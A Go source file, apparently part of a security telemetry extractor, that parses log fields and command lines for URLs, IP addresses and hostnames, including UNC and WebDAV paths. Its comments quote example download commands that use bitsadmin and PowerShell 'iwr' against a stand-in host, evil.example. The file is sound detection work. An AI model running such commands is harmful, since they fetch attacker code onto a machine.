package telemetry

import (
	"bytes"

	"github.com/valyala/fastjson"
)

// wholeURL reports whether b, a whole field value, is an absolute web or file-transfer URL:
// such a value is a URL observable whatever its field is called (Zeek dns.log queries such
// as "http://172.16.0.58", Sysmon WMI and WinRM ObjectName values). Values with spaces are
// prose, not URLs.
func wholeURL(b []byte) bool {
	i := bytes.Index(b, []byte("://"))
	if i < 3 || i > 6 || len(b) < i+4 || bytes.ContainsAny(b, " \t\r\n") {
		return false
	}
	return isWebScheme(b[:i])
}

// isWebScheme reports whether s (any case) is http, https, ftp or ftps.
func isWebScheme(s []byte) bool {
	var lower [6]byte
	for i, c := range s {
		if c >= 'A' && c <= 'Z' {
			c += 'a' - 'A'
		}
		lower[i] = c
	}
	switch string(lower[:len(s)]) {
	case "http", "https", "ftp", "ftps":
		return true
	}
	return false
}

// unlistedURL reads a field the format's table does not list, at path p, when its whole
// value is a URL.
func (e *Extractor) unlistedURL(p []byte, v *fastjson.Value) {
	if v.Type() != fastjson.TypeString {
		return
	}
	b, _ := v.StringBytes()
	if !wholeURL(b) {
		return
	}
	saved := e.path
	e.path = append(e.path[len(e.path):], p...)
	e.add(e.fieldPath(), classURL, b)
	e.path = saved
}

// addCommandLine scans a command line for the URLs, IP addresses and domain names in its
// arguments (bitsadmin /transfer job http://…, powershell -c "iwr evil.example/x"). Each
// argument is split off at spaces and quotes; a URL or address may end in punctuation, and
// may follow an option's '=' (--server=evil.example).
func (e *Extractor) addCommandLine(field string, b []byte) {
	for _, arg := range bytes.FieldsFunc(b, func(r rune) bool {
		return r == ' ' || r == '\t' || r == '"' || r == '\'' || r == '`' || r == '(' || r == ')' || r == ',' || r == ';' || r == '|'
	}) {
		arg = optionValue(bytes.TrimRight(arg, ".:!?>"))
		switch {
		case len(arg) < 4:
		case bytes.Contains(arg, []byte("://")):
			if wholeURL(arg) {
				e.add(field, classURL, arg)
			}
		case ipLike(arg):
			e.add(field, classIP, arg)
		default:
			h := hostOf(arg)
			switch {
			case len(h) < 4:
			case ipv4Like(h):
				e.add(field, classIP, h)
			case e.domainLike(h):
				e.add(field, classHost, h)
			}
		}
	}
}

// optionValue is the value of an option written name=value (--server=evil.example,
// /url=http://…), or arg itself. An '=' inside a URL's query is not an option's.
func optionValue(arg []byte) []byte {
	i := bytes.IndexByte(arg, '=')
	if i < 0 || bytes.Contains(arg[:i], []byte("://")) {
		return arg
	}
	return arg[i+1:]
}

// hostOf is the host part of an address written without a scheme, as commands write them:
// "host/path", "host:port", "user@host" (ssh, scp), and UNC paths "\\host\share", including
// WebDAV's "\\host@SSL\DavWWWRoot".
func hostOf(arg []byte) []byte {
	unc := bytes.HasPrefix(arg, []byte(`\\`)) || bytes.HasPrefix(arg, []byte("//"))
	if unc {
		arg = arg[2:]
	}
	if i := bytes.IndexAny(arg, "/\\"); i >= 0 {
		arg = arg[:i]
	}
	if unc {
		if i := bytes.IndexByte(arg, '@'); i >= 0 {
			arg = arg[:i] // WebDAV: host@SSL, host@port
		}
	} else if i := bytes.LastIndexByte(arg, '@'); i >= 0 {
		arg = arg[i+1:] // user@host
	}
	if i := bytes.LastIndexByte(arg, ':'); i >= 0 && (i == len(arg)-1 || isDigits(arg[i+1:])) {
		arg = arg[:i] // host:port, scp's host:path
	}
	return arg
}
